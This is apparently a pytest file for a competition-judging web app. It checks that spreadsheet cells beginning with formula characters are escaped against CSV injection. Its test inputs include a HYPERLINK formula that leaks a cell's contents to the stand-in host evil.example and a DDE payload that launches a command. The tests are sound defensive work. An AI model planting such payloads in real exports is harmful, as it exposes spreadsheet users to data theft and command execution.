"""Text that a spreadsheet program would run as a formula is written as text (OWASP CSV injection)."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from judging.spreadsheet_cells import safe_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'


@pytest.mark.parametrize("text", [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"])
def test_formula_looking_text_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Әлия Қасымова", "2–3", "—", "", "a=b", 7, 8.67, -3, None])
def test_other_values_are_left_as_they_are(value):
    assert safe_cell(value) == value
    assert type(safe_cell(value)) is type(value)  # numbers stay numbers


def test_entries_template_has_no_formula_from_a_category_name(client, organiser, make_edition, db):
    edition = make_edition()
    category = edition.categories[0]
    category.nomination = {"kk": "=1+1", "ru": "=1+1", "en": "=1+1"}
    db.session.commit()
    response = client.get(f"/admin/editions/{edition.id}/entries/import/template.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    lists = book.worksheets[1]
    names = [c for row in lists.iter_rows(min_row=2, max_col=1) for c in row if c.value]
    assert names and all(c.data_type == "s" and c.value.startswith("'=1+1") for c in names)
